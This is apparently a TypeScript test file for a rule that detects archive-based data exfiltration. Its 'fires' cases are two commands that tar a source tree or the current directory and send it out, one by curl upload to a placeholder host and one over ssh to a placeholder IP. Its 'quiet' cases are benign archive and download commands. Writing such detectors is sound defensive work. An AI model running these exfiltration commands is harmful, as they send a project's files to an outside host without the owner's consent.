import { rule } from './archive.ts';
import { describeRule } from '../../rule-examples.ts';

describeRule(rule, {
  fires: [
    'tar cz src | curl -T - https://a.example.net/u',
    "tar czf - . | ssh u@198.51.100.7 'cat > x.tgz'",
  ],
  quiet: [
    'tar czf out.tgz src',
    'curl -o a.tgz https://a.example.net/a.tgz && tar xzf a.tgz',
  ],
});
